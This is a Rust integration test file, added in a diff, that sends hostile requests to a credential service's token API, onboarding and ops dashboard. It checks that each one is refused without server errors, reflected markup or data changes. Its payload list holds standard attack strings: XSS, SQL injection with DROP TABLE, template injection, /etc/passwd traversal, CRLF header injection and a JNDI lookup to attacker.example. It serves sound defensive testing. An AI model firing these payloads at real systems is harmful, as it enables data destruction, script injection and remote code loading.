@@ -1,0 +1,405 @@
+//! Hostile input across every endpoint a person or an integration reaches (the dev IdP
+//! excluded): onboarding, the consent callback, the token API, the dashboard's forms and
+//! queries. Each case is sent as an attacker would send it and must get a clear answer
+//! (4xx, or 200 for a search that simply finds nothing), never a 5xx, never the payload back
+//! as markup, and no change to what samvault holds (partners, grants, clients, secrets,
+//! invitations, ops users). It lives in the dashboard binary because half the cases need a
+//! signed-in operator.
+
+use super::Operator;
+use super::support::stack::*;
+use super::support::{self, Backend};
+use crate::on_both_backends;
+use reqwest::Method;
+
+/// Payloads tried in every field that could reach a query, a page or a path.
+const PAYLOADS: [&str; 12] = [
+    "<script>alert(1)</script>",
+    "\"><svg onload=alert(1)>",
+    "' OR '1'='1",
+    "'; DROP TABLE partners;--",
+    "{{7*7}}{% raw %}${7*7}",
+    "../../../../etc/passwd",
+    "..%2F..%2Fetc%2Fpasswd",
+    "%00%0d%0aSet-Cookie:x=1",
+    "\u{202e}gnp.exe",
+    "javascript:alert(1)",
+    "${jndi:ldap://attacker.example/x}",
+    "𝕏𝕏𝕏 \u{0}",
+];
+
+/// Markup that must never come back unescaped.
+const REFLECTED: [&str; 2] = ["<script>alert(1)</script>", "<svg onload=alert(1)>"];
+
+struct Case {
+    name: String,
+    method: Method,
+    path: String,
+    content_type: Option<&'static str>,
+    body: Vec<u8>,
+    auth: Auth,
+    /// A search that finds nothing may answer 200.
+    may_succeed: bool,
+}
+
+#[derive(Clone, Copy)]
+enum Auth {
+    None,
+    /// HTTP Basic with a valid integration client.
+    Client,
+    /// The signed-in admin's session cookie.
+    Admin,
+}
+
+fn enc(value: &str) -> String {
+    url::form_urlencoded::byte_serialize(value.as_bytes()).collect()
+}
+
+fn form(pairs: &[(&str, &str)]) -> Vec<u8> {
+    let mut serializer = url::form_urlencoded::Serializer::new(String::new());
+    for (k, v) in pairs {
+        serializer.append_pair(k, v);
+    }
+    serializer.finish().into_bytes()
+}
+
+fn case(name: String, method: Method, path: String, auth: Auth) -> Case {
+    Case {
+        name,
+        method,
+        path,
+        content_type: None,
+        body: Vec::new(),
+        auth,
+        may_succeed: false,
+    }
+}
+
+fn with_body(mut c: Case, content_type: &'static str, body: Vec<u8>) -> Case {
+    c.content_type = Some(content_type);
+    c.body = body;
+    c
+}
+
+fn cases(csrf: &str) -> Vec<Case> {
+    let token = format!("/api/v1/partners/{CONTOSO}/token");
+    let json = "application/json";
+    let urlencoded = "application/x-www-form-urlencoded";
+    let mut all = Vec::new();
+    for (i, p) in PAYLOADS.iter().enumerate() {
+        let e = enc(p);
+        // The token API: the tenant in the path, the resource and the tenant in the body.
+        all.push(with_body(
+            case(
+                format!("token path #{i}"),
+                Method::POST,
+                format!("/api/v1/partners/{e}/token"),
+                Auth::Client,
+            ),
+            json,
+            serde_json::json!({ "resource": PARTNER_CENTER, "purpose": "x" })
+                .to_string()
+                .into_bytes(),
+        ));
+        all.push(with_body(
+            case(
+                format!("token resource #{i}"),
+                Method::POST,
+                token.clone(),
+                Auth::Client,
+            ),
+            json,
+            serde_json::json!({ "resource": p, "purpose": "x" })
+                .to_string()
+                .into_bytes(),
+        ));
+        all.push(case(
+            format!("partner read path #{i}"),
+            Method::GET,
+            format!("/api/v1/partners/{e}"),
+            Auth::Client,
+        ));
+        // Onboarding: invitation tokens, the start form's CSRF, the callback's parameters.
+        all.push(case(
+            format!("invitation #{i}"),
+            Method::GET,
+            format!("/onboard/i/{e}"),
+            Auth::None,
+        ));
+        all.push(with_body(
+            case(
+                format!("onboard start csrf #{i}"),
+                Method::POST,
+                "/onboard/start".into(),
+                Auth::None,
+            ),
+            urlencoded,
+            form(&[("csrf", p), ("invitation", p)]),
+        ));
+        all.push(case(
+            format!("callback state #{i}"),
+            Method::GET,
+            format!("/onboard/callback?code={e}&state={e}"),
+            Auth::None,
+        ));
+        all.push(case(
+            format!("callback error #{i}"),
+            Method::GET,
+            format!("/onboard/callback?error={e}&error_description={e}&state={e}"),
+            Auth::None,
+        ));
+        // The dashboard: sign-in, paths, queries and forms (with the admin's valid CSRF token,
+        // so validation itself is what refuses them).
+        all.push(with_body(
+            case(
+                format!("ops sign-in #{i}"),
+                Method::POST,
+                "/ops/signin".into(),
+                Auth::None,
+            ),
+            urlencoded,
+            form(&[("csrf", p), ("username", p), ("password", p), ("code", p)]),
+        ));
+        all.push(case(
+            format!("ops partner path #{i}"),
+            Method::GET,
+            format!("/ops/partners/{e}"),
+            Auth::Admin,
+        ));
+        let mut search = case(
+            format!("ops partner search #{i}"),
+            Method::GET,
+            format!("/ops/partners?q={e}"),
+            Auth::Admin,
+        );
+        search.may_succeed = true;
+        all.push(search);
+        all.push(case(
+            format!("ops partner sort #{i}"),
+            Method::GET,
+            format!("/ops/partners?sort={e}&status={e}&cursor={e}"),
+            Auth::Admin,
+        ));
+        let mut audit = case(
+            format!("ops audit filter #{i}"),
+            Method::GET,
+            format!("/ops/audit?actor={e}&action={e}&tenant={e}"),
+            Auth::Admin,
+        );
+        audit.may_succeed = true;
+        all.push(audit);
+        all.push(with_body(
+            case(
+                format!("ops invitation #{i}"),
+                Method::POST,
+                "/ops/invitations".into(),
+                Auth::Admin,
+            ),
+            urlencoded,
+            form(&[("csrf", csrf), ("tenant_id", p), ("days", p)]),
+        ));
+        all.push(with_body(
+            case(
+                format!("ops client resources #{i}"),
+                Method::POST,
+                "/ops/integrations".into(),
+                Auth::Admin,
+            ),
+            urlencoded,
+            form(&[
+                ("csrf", csrf),
+                ("name", "hostile"),
+                ("permissions", "tokens:issue"),
+                ("resources", p),
+                ("rate_limit", "60"),
+            ]),
+        ));
+        all.push(with_body(
+            case(
+                format!("ops revoke confirm #{i}"),
+                Method::POST,
+                format!("/ops/partners/{CONTOSO}/revoke"),
+                Auth::Admin,
+            ),
+            urlencoded,
+            form(&[("csrf", csrf), ("confirm", p)]),
+        ));
+    }
+    // Structure rather than content: bodies, encodings, headers, missing CSRF.
+    for (name, body) in [
+        ("not json", b"resource=x".to_vec()),
+        ("truncated json", b"{\"resource\": \"https://api.partnercenter.micro".to_vec()),
+        ("json array", b"[1,2,3]".to_vec()),
+        ("wrong types", b"{\"resource\": 42, \"purpose\": []}".to_vec()),
+        ("invalid utf-8", b"{\"resource\": \"\xff\xfe\", \"purpose\": \"x\"}".to_vec()),
+        ("deep nesting", format!("{}{}", "[".repeat(5000), "]".repeat(5000)).into_bytes()),
+        ("duplicate keys", format!("{{\"resource\": \"{PARTNER_CENTER}\", \"resource\": \"https://evil.example\", \"purpose\": \"x\"}}").into_bytes()),
+        ("empty", Vec::new()),
+        ("oversized", vec![b' '; 2 * 1024 * 1024]),
+    ] {
+        all.push(with_body(case(format!("token body: {name}"), Method::POST, token.clone(), Auth::Client), json, body));
+    }
+    all.push(with_body(
+        case(
+            "token body as a form".into(),
+            Method::POST,
+            token.clone(),
+            Auth::Client,
+        ),
+        urlencoded,
+        form(&[("resource", PARTNER_CENTER), ("purpose", "x")]),
+    ));
+    for (name, path) in [
+        (
+            "callback with state twice",
+            "/onboard/callback?code=a&state=a&state=b".to_string(),
+        ),
+        (
+            "callback without parameters",
+            "/onboard/callback".to_string(),
+        ),
+        (
+            "callback with invalid utf-8",
+            "/onboard/callback?code=%FF%FE&state=%C0%AF".to_string(),
+        ),
+        (
+            "ops partner path with dots",
+            "/ops/partners/..%2F..%2Fops".to_string(),
+        ),
+        (
+            "ops audit with a bad date",
+            "/ops/audit?from=2026-13-45&to=yesterday".to_string(),
+        ),
+        (
+            "ops security csv with a query",
+            "/ops/security/requests.csv?limit=-1".to_string(),
+        ),
+    ] {
+        let mut c = case(
+            name.into(),
+            Method::GET,
+            path,
+            if name.starts_with("ops") {
+                Auth::Admin
+            } else {
+                Auth::None
+            },
+        );
+        c.may_succeed = name.contains("csv");
+        all.push(c);
+    }
+    // Admin actions without the CSRF token: refused whatever else the form says.
+    for path in [
+        format!("/ops/partners/{CONTOSO}/revoke"),
+        format!("/ops/partners/{CONTOSO}/rotate"),
+        "/ops/integrations".to_string(),
+        "/ops/invitations".to_string(),
+        "/ops/audit/verify".to_string(),
+    ] {
+        all.push(with_body(
+            case(
+                format!("no csrf: {path}"),
+                Method::POST,
+                path.clone(),
+                Auth::Admin,
+            ),
+            urlencoded,
+            form(&[
+                ("confirm", CONTOSO),
+                ("name", "x"),
+                ("tenant_id", CONTOSO),
+                ("days", "7"),
+            ]),
+        ));
+    }
+    all
+}
+
+/// What samvault holds, as one comparable string.
+async fn holdings(stack: &Stack) -> String {
+    let mut out = String::new();
+    for sql in [
+        "SELECT COUNT(*) FROM partners WHERE status = 'active' AND tenant_id <> $1",
+        "SELECT COUNT(*) FROM grants WHERE sealed IS NOT NULL AND tenant_id <> $1",
+        "SELECT COUNT(*) FROM clients WHERE revoked_at IS NULL AND client_id <> $1",
+        "SELECT COUNT(*) FROM client_secrets WHERE revoked_at IS NULL AND id <> $1",
+        "SELECT COUNT(*) FROM invitations WHERE id <> $1",
+        "SELECT COUNT(*) FROM ops_users WHERE disabled_at IS NULL AND username <> $1",
+        "SELECT COUNT(*) FROM consents WHERE tenant_id <> $1",
+    ] {
+        out.push_str(&format!("{} ", stack.scalar(sql, "").await));
+    }
+    out
+}
+
+async fn hostile_inputs_get_clear_refusals_and_change_nothing(backend: Backend) {
+    let Some(db) = support::fresh_database(backend).await else {
+        return;
+    };
+    let stack = Stack::start(&db.url, StackOptions::default()).await;
+    stack.consent("jane@contoso.example").await;
+    let creds = stack.client(&[PARTNER_CENTER]);
+    let mut admin = Operator::signed_in(&stack, "alice", "admin").await;
+    let csrf = admin.csrf("/ops").await;
+    let cookie = admin.cookie().unwrap();
+    let before = holdings(&stack).await;
+
+    let http = reqwest::Client::builder()
+        .redirect(reqwest::redirect::Policy::none())
+        .build()
+        .unwrap();
+    let cases = cases(&csrf);
+    assert!(cases.len() >= 150, "{} cases", cases.len());
+    let mut failures = Vec::new();
+    for c in &cases {
+        let mut request = http.request(c.method.clone(), format!("{}{}", stack.sv(), c.path));
+        if let Some(content_type) = c.content_type {
+            request = request
+                .header("content-type", content_type)
+                .body(c.body.clone());
+        }
+        request = match c.auth {
+            Auth::None => request,
+            Auth::Client => request.basic_auth(&creds.0, Some(&creds.1)),
+            Auth::Admin => request.header("cookie", &cookie),
+        };
+        let response = match request.send().await {
+            Ok(response) => response,
+            // The server may close the connection on an oversized body: a refusal too.
+            Err(e) if c.body.len() > 1024 * 1024 => {
+                eprintln!("{}: connection closed ({e})", c.name);
+                continue;
+            }
+            Err(e) => panic!("{}: {e}", c.name),
+        };
+        let status = response.status().as_u16();
+        let body = response.text().await.unwrap_or_default();
+        let clear = (400..500).contains(&status) || (c.may_succeed && status == 200);
+        if !clear {
+            failures.push(format!(
+                "{}: {status} {}",
+                c.name,
+                body.chars().take(200).collect::<String>()
+            ));
+        }
+        if let Some(markup) = REFLECTED.iter().find(|m| body.contains(**m)) {
+            failures.push(format!("{}: reflected {markup}", c.name));
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} of {} cases:\n{}",
+        failures.len(),
+        cases.len(),
+        failures.join("\n")
+    );
+    assert_eq!(
+        holdings(&stack).await,
+        before,
+        "nothing samvault holds changed"
+    );
+    // And the service still serves the partner the hostile requests were aimed at.
+    assert_eq!(stack.token(&creds, CONTOSO, token_body()).await.0, 200);
+}
+
+on_both_backends!(hostile_inputs_get_clear_refusals_and_change_nothing);
